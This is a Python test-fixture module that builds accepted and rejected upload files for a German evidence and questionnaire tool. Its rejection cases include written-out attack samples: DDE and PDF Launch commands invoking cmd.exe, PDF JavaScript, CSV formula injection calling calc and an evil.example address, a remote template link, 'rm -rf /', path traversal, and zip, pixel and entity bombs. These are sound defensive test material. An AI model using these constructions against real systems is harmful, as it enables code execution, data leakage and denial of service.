"""Files as people upload them, as evidence or filled in, and files that must never be taken."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from xml.sax.saxutils import escape

import pikepdf
from PIL import Image

from dnk_tool.domain.declarations.questionnaire.marks import parse_mark
from dnk_tool.domain.evidence import FileRejectionReason

SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORDS = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
EXTERNAL_LINK = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODT = "application/vnd.oasis.opendocument.text"
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
FIELD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r>'
    "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd.exe</w:instrText></w:r></w:document>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def pdf(text: str = "Rechnung", change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    """A PDF with one page; `text` makes each one different."""
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(595, 842))
        made.docinfo["/Title"] = text
        if change:
            change(made)
        target = io.BytesIO()
        made.save(target, **{"static_id": True, **save})
        return target.getvalue()


def image(kind: str = "PNG", size: tuple[int, int] = (40, 30), colour: str = "teal", **save: object) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, colour).save(target, kind, **save)
    return target.getvalue()


def logo() -> bytes:
    """A logo as it is printed: a bar on a clear ground."""
    mark, target = Image.new("RGBA", (120, 40)), io.BytesIO()
    mark.paste((226, 0, 26, 255), (0, 10, 110, 30))
    mark.save(target, "PNG")
    return target.getvalue()


def photo() -> bytes:
    """A JPEG that says where it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x010E] = "Halle 2, Frau Muster"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (48.0, 42.0, 0.0)
    return image("JPEG", exif=exif, comment=b"Standort Werk")


def animated_image(kind: str) -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(target, kind, save_all=True, append_images=frames[1:])
    return target.getvalue()


def pixel_bomb(width: int, height: int) -> bytes:
    """A PNG of a few kilobytes that says it has so many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = bytes(1 + (width + 7) // 8)
    body = zlib.compress(row * min(height, 2000), 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(*chunk) for chunk in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def zip_archive(parts: Mapping[str, bytes | str], *, comment: bytes = b"") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part)
        made.comment = comment
    return target.getvalue()


def zip_parts(content: bytes) -> dict[str, bytes]:
    """What a sound archive holds, by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        assert file.testzip() is None
        return {name: file.read(name) for name in file.namelist()}


def office_file(
    main: str = SPREADSHEET, more: Mapping[str, bytes | str] | None = None, types: str = ""
) -> bytes:
    """A file of Office with the parts that make it one."""
    head = f'<?xml version="1.0"?><Types><Override PartName="/a.xml" ContentType="{main}"/>{types}</Types>'
    return zip_archive({"[Content_Types].xml": head, "a.xml": "<a/>", **(more or {})})


def _typed(part: str, content_type: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'


def external_relation(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def open_document(
    media_type: str = ODS, body: str = "", more: Mapping[str, bytes | str] | None = None
) -> bytes:
    content = f"<office {XLINK}>{body}</office>"
    return zip_archive({"mimetype": media_type, "content.xml": content, **(more or {})})


def _add_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def _add_launch_action(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def _add_chained_script(made: pikepdf.Pdf) -> None:
    """A script at the end of a row of harmless actions, each within the one before."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    for _step in range(12):
        action = pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([action]))
    made.Root.OpenAction = action


def _add_file_annotation(made: pikepdf.Pdf) -> None:
    """A program that hangs on a note of the page, and in no list of attachments."""
    stream = made.make_stream(b"MZ")
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=stream)
    )
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec
    )
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def _nested(times: int) -> bytes:
    """A document in a document in a document."""
    content = office_file(WORDS)
    for _time in range(times):
        content = office_file(WORDS, {"word/embeddings/a.docx": content})
    return content


def _attach(name: str) -> Callable[[pikepdf.Pdf], None]:
    def attach(made: pikepdf.Pdf) -> None:
        made.attachments[name] = b"content"

    return attach


def encrypted_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim"))


def owner_locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="", owner="geheim"))


def accepted_files() -> dict[str, bytes]:
    """One file of each kind, by name, and kinds that look strange and are none the less honest."""
    return {
        "Rechnung.pdf": pdf(),
        "ZUGFeRD.pdf": pdf(change=_attach("factur-x.xml")),
        "Bescheid.pdf": owner_locked_pdf(),
        "Scan.png": image(),
        "Foto.jpg": photo(),
        "Foto.JPEG": photo(),
        "Bild.webp": image("WEBP"),
        "Zähler.xlsx": office_file(),
        "Vermerk.docx": office_file(
            WORDS, {"word/_rels/document.xml.rels": external_relation("hyperlink", "https://a.example")}
        ),
        "Schulung.pptx": office_file(SLIDES),
        "Liste.ods": open_document(),
        "Brief.odt": open_document(ODT, '<text:a xmlns:text="t" xlink:href="https://a.example"/>'),
        "Diagramm.docx": office_file(
            WORDS, {"word/embeddings/Sheet1.xlsx": office_file(), "word/document.xml": "<a/>"}
        ),
        "Zeichen.csv": b"Konto|Text;Saldo\n-5;=B2+B3\n+49 521 1234;Achtung!\n@home | Tor!;1\n",
        "Lohn.csv": "Name;Stunden\r\nMüller;-3,5\r\n".encode("cp1252"),
        "Export.csv": "\ufeffJahr\tWert\n2025\t3".encode("utf-16"),
        "Notiz.txt": "Gezählt am 3. März – 12 Stück\n".encode(),
    }


@cache
def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
    """Files that must never be taken: what is done, the name, the content, and what people are told."""
    docm = office_file(MACROS, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})
    bomb = zip_archive({"[Content_Types].xml": "<Types/>", "xl/sheet1.xml": b"\0" * 60_000_000})
    many = zip_archive({f"p{number}.xml": "<a/>" for number in range(2_001)})
    entities = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
    return {
        "svg": ("logo.svg", SVG, FileRejectionReason.KIND),
        "html": ("seite.html", HTML, FileRejectionReason.KIND),
        "exe": ("rechnung.exe", b"MZ\x90\0", FileRejectionReason.KIND),
        "two endings": ("rechnung.pdf.exe", pdf(), FileRejectionReason.KIND),
        "no ending": ("rechnung", pdf(), FileRejectionReason.KIND),
        "docm": ("brief.docm", docm, FileRejectionReason.KIND),
        "heic": ("IMG_0001.HEIC", b"\0\0\0\x18ftypheic", FileRejectionReason.HEIC),
        "heic as jpg": ("image.jpg", b"\0\0\0\x24ftypheic\0\0", FileRejectionReason.HEIC),
        "empty": ("leer.pdf", b"", FileRejectionReason.EMPTY),
        "svg as png": ("logo.png", SVG, FileRejectionReason.OTHER_CONTENT),
        "svg as text": ("logo.txt", b"\n " + SVG, FileRejectionReason.OTHER_CONTENT),
        "html as text": ("seite.txt", HTML, FileRejectionReason.OTHER_CONTENT),
        "html as csv": ("seite.csv", b"\xef\xbb\xbf  <HTML><body>", FileRejectionReason.OTHER_CONTENT),
        "html as utf-16": (
            "seite.txt",
            "<script>alert(1)</script>".encode("utf-16"),
            FileRejectionReason.OTHER_CONTENT,
        ),
        "exe as pdf": ("rechnung.pdf", b"MZ\x90\0 This program", FileRejectionReason.OTHER_CONTENT),
        "exe as text": ("rechnung.txt", b"MZ this is a program", FileRejectionReason.OTHER_CONTENT),
        "script as text": ("lies.txt", b"#!/bin/sh\nrm -rf /", FileRejectionReason.OTHER_CONTENT),
        "nul in csv": ("daten.csv", b"a;b\0;c", FileRejectionReason.NO_TEXT),
        "bytes in csv": ("daten.csv", bytes(range(128, 256)), FileRejectionReason.NO_TEXT),
        "docm as docx": ("brief.docx", docm, FileRejectionReason.MACROS),
        "hidden macros": (
            "liste.xlsx",
            office_file(more={"xl/VBAPROJECT.bin": b"x"}),
            FileRejectionReason.MACROS,
        ),
        "declared macros": (
            "brief.docx",
            office_file(WORDS, types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
            FileRejectionReason.MACROS,
        ),
        "docx as xlsx": ("liste.xlsx", office_file(WORDS), FileRejectionReason.OTHER_CONTENT),
        "zip as docx": ("brief.docx", zip_archive({"a.txt": "a"}), FileRejectionReason.BROKEN),
        "remote template": (
            "brief.docx",
            office_file(
                WORDS,
                {
                    "word/_rels/settings.xml.rels": external_relation(
                        "attachedTemplate", "https://evil.example/t"
                    )
                },
            ),
            FileRejectionReason.LINKED,
        ),
        "remote picture": (
            "brief.docx",
            office_file(
                WORDS, {"word/_rels/document.xml.rels": external_relation("image", "file://server/a.png")}
            ),
            FileRejectionReason.LINKED,
        ),
        "command in a workbook": (
            "liste.xlsx",
            office_file(more={"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd"/></a>'}),
            FileRejectionReason.LINKED,
        ),
        "program in a document": (
            "a.docx",
            office_file(WORDS, {"word/embeddings/oleObject1.bin": b"x"}),
            FileRejectionReason.SCRIPTS,
        ),
        "zip bomb": ("liste.xlsx", bomb, FileRejectionReason.UNPACKED),
        "too many parts": ("liste.xlsx", many, FileRejectionReason.UNPACKED),
        "macros in a file within": (
            "brief.docx",
            office_file(
                WORDS, {"word/embeddings/Sheet1.xlsx": office_file(more={"xl/vbaProject.bin": b"x"})}
            ),
            FileRejectionReason.MACROS,
        ),
        "program that calls itself a table": (
            "brief.docx",
            office_file(WORDS, {"word/embeddings/Sheet1.xlsx": b"MZ\x90\0"}),
            FileRejectionReason.OTHER_CONTENT,
        ),
        "files within files": ("brief.docx", _nested(4), FileRejectionReason.UNPACKED),
        "data from elsewhere": (
            "liste.xlsx",
            office_file(
                more={"xl/connections.xml": '<connections><dbPr connection="Provider=x"/></connections>'}
            ),
            FileRejectionReason.LINKED,
        ),
        "split command in a field": (
            "brief.docx",
            office_file(WORDS, {"word/document.xml": FIELD}),
            FileRejectionReason.FIELDS,
        ),
        "command in a workbook, somewhere else": (
            "liste.xlsx",
            office_file(
                more={"b.xml": '<a><ddeLink ddeService="cmd"/></a>'}, types=_typed("b.xml", EXTERNAL_LINK)
            ),
            FileRejectionReason.LINKED,
        ),
        "split command in a field, somewhere else": (
            "brief.docx",
            office_file(WORDS, {"b/text.xml": FIELD}),
            FileRejectionReason.FIELDS,
        ),
        "split command in a field under another ending": (
            "brief.docx",
            office_file(WORDS, {"b/text.png": FIELD}, types=_typed("b/text.png", WORDS)),
            FileRejectionReason.FIELDS,
        ),
        "program in a document, somewhere else": (
            "a.docx",
            office_file(WORDS, {"media/a.bin": b"x"}, types=_typed("media/a.bin", OLE_OBJECT)),
            FileRejectionReason.SCRIPTS,
        ),
        "command in a cell of csv": (
            "zahlen.csv",
            b"Name;Wert\nA;=cmd|' /C calc'!A0\n",
            FileRejectionReason.FORMULAS,
        ),
        "address asked by csv": (
            "zahlen.csv",
            b'Name,Wert\n"A","=1+WEBSERVICE(""https://evil.example/"")"\n',
            FileRejectionReason.FORMULAS,
        ),
        "entities": (
            "liste.xlsx",
            zip_archive({"[Content_Types].xml": entities}),
            FileRejectionReason.BROKEN,
        ),
        "path in a part": (
            "liste.xlsx",
            office_file(more={"../../etc/cron.d/x": "x"}),
            FileRejectionReason.BROKEN,
        ),
        "password of office": (
            "liste.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
            FileRejectionReason.ENCRYPTED,
        ),
        "basic in ods": (
            "liste.ods",
            open_document(more={"Basic/Standard/Module1.xml": "<a/>"}),
            FileRejectionReason.MACROS,
        ),
        "event in odt": (
            "brief.odt",
            open_document(ODT, '<s:event-listener xmlns:s="s" xlink:href="vnd.sun.star.script:a"/>'),
            FileRejectionReason.MACROS,
        ),
        "remote picture in odt": (
            "brief.odt",
            open_document(ODT, '<d:image xmlns:d="d" xlink:href="https://evil.example/a.png"/>'),
            FileRejectionReason.LINKED,
        ),
        "locked ods": (
            "liste.ods",
            open_document(more={"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}),
            FileRejectionReason.ENCRYPTED,
        ),
        "odt as ods": ("liste.ods", open_document(ODT), FileRejectionReason.OTHER_CONTENT),
        "pdf with a beginning": ("rechnung.pdf", b"GIF89a;" + pdf(), FileRejectionReason.OTHER_CONTENT),
        "pdf with a page behind": ("rechnung.pdf", pdf() + HTML, FileRejectionReason.OTHER_CONTENT),
        "pdf and zip": (
            "rechnung.pdf",
            pdf() + zip_archive({"a.exe": "MZ"}),
            FileRejectionReason.OTHER_CONTENT,
        ),
        "zip in a comment of a pdf": (
            "rechnung.pdf",
            pdf() + zip_archive({"a": "a"}, comment=b"\n%%EOF\n"),
            FileRejectionReason.OTHER_CONTENT,
        ),
        "zip with a beginning": ("liste.xlsx", b"GIF89a" + office_file(), FileRejectionReason.OTHER_CONTENT),
        "zip with an end": ("liste.xlsx", office_file() + HTML, FileRejectionReason.OTHER_CONTENT),
        "locked pdf": ("rechnung.pdf", encrypted_pdf(), FileRejectionReason.ENCRYPTED),
        "broken pdf": ("rechnung.pdf", b"%PDF-1.7\nnothing\n%%EOF\n", FileRejectionReason.BROKEN),
        "half a pdf": ("rechnung.pdf", pdf()[:200], FileRejectionReason.BROKEN),
        "script in a pdf": ("rechnung.pdf", pdf(change=_add_script), FileRejectionReason.SCRIPTS),
        "program started by a pdf": (
            "rechnung.pdf",
            pdf(change=_add_launch_action),
            FileRejectionReason.SCRIPTS,
        ),
        "program in a pdf": ("rechnung.pdf", pdf(change=_attach("a.exe")), FileRejectionReason.SCRIPTS),
        "script behind many others": (
            "rechnung.pdf",
            pdf(change=_add_chained_script),
            FileRejectionReason.SCRIPTS,
        ),
        "program on a note": ("rechnung.pdf", pdf(change=_add_file_annotation), FileRejectionReason.SCRIPTS),
        "pixel flood": ("scan.png", pixel_bomb(20_000, 20_000), FileRejectionReason.PIXELS),
        "more pixels than 40 million": ("scan.png", pixel_bomb(8_000, 5_001), FileRejectionReason.PIXELS),
        "half a picture": ("scan.png", image(size=(300, 300))[:90], FileRejectionReason.BROKEN),
        "moving picture": ("bild.webp", animated_image("WEBP"), FileRejectionReason.MOVING),
        "moving png": ("bild.png", animated_image("PNG"), FileRejectionReason.MOVING),
        "gif as png": ("bild.png", image("GIF"), FileRejectionReason.OTHER_CONTENT),
    }


DOCUMENT = "word/document.xml"


def replaced_part(content: bytes, name: str, part: bytes) -> bytes:
    """The archive with one of its parts replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return zip_archive({entry: source.read(entry) for entry in source.namelist()} | {name: part})


def word_file(content: bytes, body: str) -> bytes:
    """The Word file with another body."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    part = f'<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
    return replaced_part(content, DOCUMENT, part.encode())


def questionnaire_tags(content: bytes) -> dict[str, str]:
    """The tags of the fields of a questionnaire, by ref and part such as "1.1/text"."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        marks = re.findall(r'<w:tag w:val="(dnk:[^"]+)"', source.read(DOCUMENT).decode())
    return {f"{mark.ref}/{mark.part}": tag for tag in marks if (mark := parse_mark(tag))}


def filled_in(content: bytes, texts: Mapping[str, str], *, beside: str = "") -> bytes:
    """The questionnaire with texts in the fields, by ref and part; `beside` stands in none of them."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        part = source.read(DOCUMENT).decode()
    tags = questionnaire_tags(content)
    for place, text in texts.items():
        start = part.index("<w:sdtContent>", part.index(f'<w:tag w:val="{tags[place]}"'))
        end = part.index("</w:sdtContent>", start)
        run = f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'
        part = f"{part[:start]}<w:sdtContent>{run}{part[end:]}"
    if beside:
        part = part.replace("<w:sectPr", f"<w:p><w:r><w:t>{beside}</w:t></w:r></w:p><w:sectPr", 1)
    return replaced_part(content, DOCUMENT, part.encode())
